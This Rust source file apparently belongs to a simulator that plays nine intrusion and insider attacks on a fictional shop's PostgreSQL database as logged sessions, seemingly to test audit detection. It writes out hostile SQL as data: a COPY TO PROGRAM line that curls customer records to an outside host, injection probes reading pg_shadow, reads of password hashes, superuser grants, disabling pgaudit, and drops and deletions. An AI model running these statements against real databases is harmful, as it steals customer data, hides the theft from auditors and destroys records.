//! What intruders and insiders do to the company, as ordinary sessions with unusual acts.

use crate::act::{ActKind, Client, Plan};
use crate::company::Statement;

const SECOND: i64 = 1_000_000;

/// An attack the simulation can play.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Attack {
    /// Passwords are tried for a person's account until one fits.
    GuessedPassword,
    /// A service's password is used from an office network with psql to read customers.
    StolenCredential,
    /// A shell command is run through the database.
    ShellCommand,
    /// A role is made superuser and given the server's files.
    Privilege,
    /// The audit is switched off for the whole server.
    AuditOff,
    /// Password hashes of database roles are read.
    PasswordHashes,
    /// A web form is probed with statements that sleep.
    TimeInjection,
    /// The customers are dumped.
    Dump,
    /// All orders are deleted, then a table is dropped.
    Destruction,
}

impl Attack {
    /// Every attack, in the order in which the demo plays them.
    pub const ALL: [Attack; 9] = [
        Attack::GuessedPassword,
        Attack::StolenCredential,
        Attack::TimeInjection,
        Attack::Privilege,
        Attack::ShellCommand,
        Attack::PasswordHashes,
        Attack::Dump,
        Attack::AuditOff,
        Attack::Destruction,
    ];

    /// What happens, in one line.
    pub fn story(self) -> &'static str {
        match self {
            Self::GuessedPassword => "someone guesses greta's password from outside her network",
            Self::StolenCredential => "checkout's password is used from an office with psql",
            Self::ShellCommand => "a shell command is run through COPY … TO PROGRAM",
            Self::Privilege => "a support account is made superuser",
            Self::AuditOff => "the audit is switched off for the whole server",
            Self::PasswordHashes => "the password hashes of the database roles are read",
            Self::TimeInjection => "the catalogue's search is probed with pg_sleep",
            Self::Dump => "the customers are dumped with pg_dump",
            Self::Destruction => "all orders are deleted and a table is dropped",
        }
    }

    pub(crate) fn plan(self, from: i64, plan: &mut Plan) {
        match self {
            Self::GuessedPassword => guess(from, plan),
            Self::StolenCredential => {
                let sql = "SELECT id, name, email, street, city FROM shop.customers ORDER BY id";
                let thief = client("checkout", "psql", "10.40.7.66");
                let probe = "SELECT table_schema, table_name FROM information_schema.tables";
                let catalog = "information_schema.tables";
                session(
                    from,
                    plan,
                    thief,
                    &[
                        ("READ", "SELECT", Some(catalog), probe),
                        ("READ", "SELECT", Some("shop.customers"), sql),
                        ("READ", "SELECT", Some("hr.salaries"), "SELECT * FROM hr.salaries"),
                    ],
                );
            }
            Self::ShellCommand => {
                let sql = "COPY shop.customers TO PROGRAM 'curl -s -T - http://203.0.113.9/in'";
                let read = ("READ", "SELECT", Some("shop.customers"), sql);
                session(from, plan, client("luis", "psql", "10.40.3.22"), &[read]);
            }
            Self::Privilege => {
                let files = "GRANT pg_read_server_files TO elif";
                session(
                    from,
                    plan,
                    client("luis", "psql", "10.40.3.22"),
                    &[
                        ("ROLE", "ALTER ROLE", None, "ALTER ROLE elif SUPERUSER"),
                        ("ROLE", "GRANT ROLE", None, files),
                    ],
                );
            }
            Self::AuditOff => {
                // A real server logs no successful SET pgaudit.log = 'none' of a session.
                let sql = "ALTER SYSTEM SET pgaudit.log = 'none'";
                let set = ("DDL", "ALTER SYSTEM", None, sql);
                session(from, plan, client("luis", "psql", "10.40.3.22"), &[set]);
            }
            Self::PasswordHashes => {
                let sql = "SELECT rolname, rolpassword FROM pg_authid";
                let read = ("READ", "SELECT", Some("pg_catalog.pg_authid"), sql);
                session(from, plan, client("luis", "psql", "10.40.3.22"), &[read]);
            }
            Self::TimeInjection => inject(from, plan),
            Self::Dump => dump(from, plan),
            Self::Destruction => {
                session(
                    from,
                    plan,
                    client("bruno", "DBeaver", "10.40.1.22"),
                    &[
                        ("WRITE", "DELETE", Some("shop.orders"), "DELETE FROM shop.orders"),
                        ("DDL", "DROP TABLE", Some("shop.payments"), "DROP TABLE shop.payments"),
                    ],
                );
            }
        }
    }
}

fn client(user: &str, application: &str, address: &str) -> Client {
    Client {
        user: user.to_owned(),
        database: "shop".to_owned(),
        application: application.to_owned(),
        address: address.to_owned(),
        port: 0,
    }
}

/// Each connection has a port of its own.
fn on_a_port(client: Client, time: i64) -> Client {
    let mixed = time.unsigned_abs().wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 32;
    let port = 32_768 + u16::try_from(mixed % 28_000).unwrap_or(0);
    Client { port, ..client }
}

fn statement(class: &str, command: &str, object: Option<&str>, sql: &str) -> Statement {
    Statement {
        class: class.to_owned(),
        command: command.to_owned(),
        object: object.map(str::to_owned),
        sql: sql.to_owned(),
    }
}

/// A session that runs the statements two seconds apart.
fn session(from: i64, plan: &mut Plan, client: Client, acts: &[(&str, &str, Option<&str>, &str)]) {
    let session = plan.session(on_a_port(client, from));
    plan.act(session, from, ActKind::Connect);
    let mut time = from + SECOND;
    for (class, command, object, sql) in acts {
        plan.act(session, time, ActKind::Run(statement(class, command, *object, sql)));
        time += 2 * SECOND;
    }
    plan.act(session, time, ActKind::Disconnect);
}

fn guess(from: i64, plan: &mut Plan) {
    for attempt in 0..10 {
        let at = from + attempt * SECOND;
        let session = plan.session(on_a_port(client("greta", "", "203.0.113.77"), at));
        plan.act(session, from + attempt * SECOND, ActKind::FailToConnect);
    }
    let found = client("greta", "psql", "203.0.113.77");
    let sql = "SELECT id, name, email FROM shop.customers LIMIT 100";
    let read = ("READ", "SELECT", Some("shop.customers"), sql);
    session(from + 11 * SECOND, plan, found, &[read]);
}

fn inject(from: i64, plan: &mut Plan) {
    let injector = client("catalogue", "catalogue-api", "10.20.2.12");
    let session = plan.session(on_a_port(injector, from));
    plan.act(session, from, ActKind::Connect);
    let probes = [
        "SELECT * FROM shop.products WHERE sku = 'x' OR 1=1",
        "SELECT * FROM shop.products WHERE sku = 'x' AND 1=(SELECT 1 FROM pg_sleep(5))",
        "SELECT * FROM shop.products WHERE sku = 'x' UNION SELECT usename, passwd, NULL, NULL \
         FROM pg_shadow",
    ];
    let mut time = from + SECOND;
    let broken = statement("READ", "SELECT", None, "SELECT * FROM shop.products WHERE sku = '''");
    let error = "unterminated quoted string at or near \"'''\"";
    plan.act(session, time, ActKind::Fail(broken, "42601", error));
    for sql in probes {
        time += SECOND;
        let probe = statement("READ", "SELECT", Some("shop.products"), sql);
        plan.act(session, time, ActKind::Run(probe));
    }
    plan.act(session, time + SECOND, ActKind::Disconnect);
}

fn dump(from: i64, plan: &mut Plan) {
    let tables = ["shop.customers", "shop.orders", "shop.payments", "support.messages"];
    let locks = tables.map(|table| format!("LOCK TABLE {table} IN ACCESS SHARE MODE"));
    let copies = tables.map(|table| format!("COPY {table} TO stdout;"));
    let mut acts: Vec<(&str, &str, Option<&str>, &str)> = Vec::new();
    acts.extend(locks.iter().map(|sql| ("MISC", "LOCK TABLE", None, sql.as_str())));
    for (table, sql) in tables.iter().zip(&copies) {
        acts.push(("READ", "SELECT", Some(table), sql.as_str()));
    }
    session(from, plan, client("bruno", "pg_dump", "10.40.1.22"), &acts);
}
